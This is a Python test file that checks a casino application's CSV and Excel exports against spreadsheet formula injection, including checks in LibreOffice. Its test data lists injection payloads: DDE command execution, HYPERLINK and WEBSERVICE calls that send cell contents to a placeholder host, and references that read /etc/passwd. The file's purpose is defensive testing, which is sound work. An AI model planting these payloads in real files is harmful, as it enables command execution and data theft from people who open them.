"""Files with hostile text make no formula and no link in a spreadsheet program, whichever separator it takes.

The rule is checked on the bytes of each kind of file, and by LibreOffice, which opens the same files.
"""

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from random import Random
from zipfile import ZipFile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from casino.kit.columns import Column, Kind, Value
from casino.kit.csv import cell_text, write_csv
from casino.kit.documents.made_from import MadeFrom
from casino.people.models import Person, Role
from casino.reports import as_csv, as_xlsx
from casino.reports.columns import MadeReport, Report, Row
from casino.reports.days import REPORTS
from casino.reports.rendering import FORMS
from tables.handling.aggregates.table import TableAggregate
from tables.handling.handler import record
from tables.handling.models import GamingTable
from tables.play import commands as c
from tables.play import events as e
from tables.play.pending import PendingEvent
from tables.refusal import UnknownRulebook
from testkit.house import OpenHouse
from testkit.people import browser_of, engage
from testkit.spreadsheet import SEPARATORS, as_opened, begins_formula, convert

pytestmark = pytest.mark.django_db
DAY = "2026-11-20"
AT = datetime(2026, 11, 20, 21, tzinfo=UTC)
HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "＝1+1",
    "＋1+1",
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    '=HYPERLINK("http://elsewhere.invalid/?"&A1,"Open")',
    '=HYPERLINK("http://elsewhere.invalid";"Open")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    '=WEBSERVICE("http://elsewhere.invalid/"&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    "{=1+1}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "  =1+1",
    '"=1+1',
    '";=1+1;"',
    '",=1+1,"',
    "x\r\n=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a,=1+1",
    "sep=;",
    "http://elsewhere.invalid/",
    "file:///etc/passwd",
    "mailto:anna@elsewhere.invalid",
    "\\\\elsewhere.invalid\\share",
)
LONG = ("=1" * 20_000, f"{'a' * 32_767}=1+1", f"{'a;' * 16_383}=1+1")
OF_KIND: dict[Kind, Value] = {
    "number": -3,
    "pocket": "00",
    "money": -124_500,
    "percent": "-2.70",
    "time": AT,
    "day": DAY,
    "flag": True,
}
CONTROL = 'a\r\n=1+1\r\n"=HYPERLINK(""http://elsewhere.invalid"",""Open"")"\r\n'


def rows_of(report: Report) -> list[Row]:
    """A row for each hostile text, which is in every cell that has words. A code that the report does not know is left
    out. The long texts are in one cell each."""
    rows: list[Row] = [tuple(_value(column, text) for column in report.columns) for text in HOSTILE]
    words = next(column.key for column in report.columns if column.kind == "text")
    rows += [tuple(text if column.key == words else None for column in report.columns) for text in LONG]
    return rows


def _value(column: Column, text: str) -> Value:
    if column.kind != "text":
        return OF_KIND[column.kind]
    try:
        column.for_people(text)
    except (KeyError, UnknownRulebook):
        return ""
    return text


def chance_texts() -> tuple[str, ...]:
    """Texts of separators, quotes and signs of formulas in any order: the same each time."""
    chance = Random(47)
    return tuple(
        "".join(chance.choices("=+-@＝;,\t\r\n\"' a1.", k=chance.randint(1, 9))) for _ in range(2_000)
    )


@pytest.fixture
def csv_files(casino_id: int, tmp_path: Path) -> dict[str, Path]:
    """A CSV file of each kind, by its name."""
    files = {f"report-{name}": _report_file(report, "csv") for name, report in REPORTS.items()}
    files |= {"compliance-page": _compliance_page(casino_id), "staff": _staff_page(casino_id)}
    out = io.StringIO(newline="")
    write_csv(out, ["a", "b"], [(text, 1) for text in chance_texts()])
    files["chance"] = out.getvalue().encode()
    return _written(tmp_path, files, "csv")


@pytest.fixture
def workbooks(tmp_path: Path) -> dict[str, Path]:
    """A workbook of each report, by its name."""
    return _written(
        tmp_path, {name: _report_file(report, "xlsx") for name, report in REPORTS.items()}, "xlsx"
    )


def _written(folder: Path, files: dict[str, bytes], ending: str) -> dict[str, Path]:
    for name, content in files.items():
        (folder / f"{name}.{ending}").write_bytes(content)
    return {name: folder / f"{name}.{ending}" for name in files}


def _report_file(report: Report, form: str) -> bytes:
    dated = MadeFrom("0" * 64, AT)
    rows = rows_of(report)
    made = MadeReport(report=report, since=DAY, until=DAY, table=None, rows=rows, record=dated, hash="0" * 64)
    out = io.BytesIO()
    {"csv": as_csv.write, "xlsx": as_xlsx.write}[form](made, out)
    return out.getvalue()


def _compliance_page(casino_id: int) -> bytes:
    """The file of the compliance page of a table at which each hostile text is a person, a terminal and a reason."""
    house = OpenHouse(casino_id, "pt-francesa", now=timezone.now(), day=None)
    aggregate, at = TableAggregate(casino_id, "T1"), house.now
    state = aggregate.load(c.AnnounceBetsOpen(), at)
    position = next(iter(state.staff))
    before = state.staff[position]
    for text in HOSTILE:
        person = e.Person(id=text, name=text)
        changed = e.StaffChanged(position=position, person=person, previous=before)
        suspended = e.TableSuspended(reason="", detail=text, bets="kept")
        by = {"by": {"id": text, "name": text, "terminal": text}}
        events = [(PendingEvent(each, at), by) for each in (changed, suspended)]
        state = record(aggregate, state, events, at)
        before = person
    GamingTable.objects.filter(casino_id=casino_id).update(name=HOSTILE[0], pit=HOSTILE[0])
    inspector = browser_of(engage(Role.GAMES_INSPECTOR, casino_id=casino_id))
    return inspector.get(f"/compliance/report.csv?day={house.day}").getvalue()


def _staff_page(casino_id: int) -> bytes:
    """The list of staff with each hostile text as a name."""
    for number, text in enumerate(HOSTILE):
        person = engage(Role.CROUPIER, casino_id=casino_id, sign_in=f"+{number}-2")
        Person.objects.filter(pk=person.pk).update(display_name=text)
    return browser_of(engage(Role.ADMINISTRATOR, casino_id=casino_id)).get("/people/staff.csv").getvalue()


def cells(file: Path, separator: str) -> Iterator[str]:
    reader = csv.reader(
        io.StringIO(file.read_bytes().decode(), newline=""), delimiter=chr(SEPARATORS[separator])
    )
    return (cell for row in reader for cell in row)


def made_in_workbook(file: Path) -> list[str]:
    """Return the formulas and links of a workbook, and its parts that lead outside of it."""
    book = load_workbook(file)
    found = [
        f"{cell.coordinate} {cell.value} {cell.hyperlink}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or cell.hyperlink
    ]
    with ZipFile(file) as archive:
        for name in archive.namelist():
            content = archive.read(name).decode()
            found += re.findall(
                r"<f[ >/][^<]*|<hyperlink[^>]*|<ddeLink[^>]*|TargetMode=\"External\"", content
            )
            found += [name] if re.search("externalLink|connections|queryTable", name) else []
    return found


# ---------------------------------------------------------------- the rule, on the bytes of each kind of file


@pytest.mark.parametrize("separator", SEPARATORS)
def test_csv_file_of_each_kind_has_no_cell_that_begins_a_formula(
    csv_files: dict[str, Path], separator: str
) -> None:
    begin = {
        name: [cell for cell in cells(file, separator) if begins_formula(cell)]
        for name, file in csv_files.items()
    }
    assert begin == {name: [] for name in csv_files}


def test_csv_file_of_each_kind_has_every_hostile_text(csv_files: dict[str, Path]) -> None:
    """Without them a file would prove nothing."""
    missing = {
        name: [text for text in HOSTILE if not any(cell_text(text) in cell for cell in cells(file, "comma"))]
        for name, file in csv_files.items()
        if name != "chance"
    }
    assert missing == {name: [] for name in missing}


def test_csv_file_is_not_taken_for_another_format(csv_files: dict[str, Path]) -> None:
    """Excel takes a file that begins with ID for SYLK, and obeys a first line `sep=`."""
    begin = {file.read_bytes()[:4].lower() for file in csv_files.values()}
    assert not [each for each in begin if each.startswith((b"id", b"sep=", b"\xef\xbb\xbf"))]


def test_workbook_of_each_report_has_no_formula_and_no_link(workbooks: dict[str, Path]) -> None:
    assert {name: made_in_workbook(file) for name, file in workbooks.items()} == {
        name: [] for name in workbooks
    }


def test_file_has_fewer_rows_than_a_sheet() -> None:
    assert all(form.most < 1_048_576 for form in FORMS.values())


# ---------------------------------------------------------------- LibreOffice opens the same files


@pytest.mark.parametrize("separator", SEPARATORS)
def test_csv_file_of_each_kind_opens_without_a_formula_or_a_link(
    csv_files: dict[str, Path], tmp_path: Path, separator: str
) -> None:
    control = tmp_path / "control.csv"
    control.write_text(CONTROL)
    opened = as_opened({**csv_files, "control": control}, tmp_path, separator=separator)
    assert len(opened.pop("control").formulas) == 2, "the program makes formulas of other files"
    assert {name: (each.formulas, each.links) for name, each in opened.items()} == dict.fromkeys(
        csv_files, ([], [])
    )


def test_csv_file_of_each_kind_has_none_after_it_is_saved_as_a_workbook(
    csv_files: dict[str, Path], tmp_path: Path
) -> None:
    saved = convert(csv_files.values(), "xlsx", tmp_path, separator="comma")
    assert {name: made_in_workbook(file) for name, file in saved.items()} == {name: [] for name in csv_files}


def test_csv_file_opens_with_its_rows_and_cells(csv_files: dict[str, Path], tmp_path: Path) -> None:
    opened = as_opened({"chance": csv_files["chance"]}, tmp_path, separator="comma")["chance"]
    assert len(opened.rows) == len(chance_texts()) + 1


def test_workbook_of_each_report_opens_without_a_formula_or_a_link(
    workbooks: dict[str, Path], tmp_path: Path
) -> None:
    opened = as_opened(workbooks, tmp_path)
    assert {name: (each.formulas, each.links) for name, each in opened.items()} == dict.fromkeys(
        workbooks, ([], [])
    )


@pytest.mark.parametrize("separator", SEPARATORS)
def test_workbook_of_each_report_has_none_after_it_is_saved_as_csv_and_opened(
    workbooks: dict[str, Path], tmp_path: Path, separator: str
) -> None:
    saved = convert(workbooks.values(), "csv", tmp_path)
    opened = as_opened(saved, tmp_path, separator=separator)
    assert {name: (each.formulas, each.links) for name, each in opened.items()} == dict.fromkeys(
        workbooks, ([], [])
    )
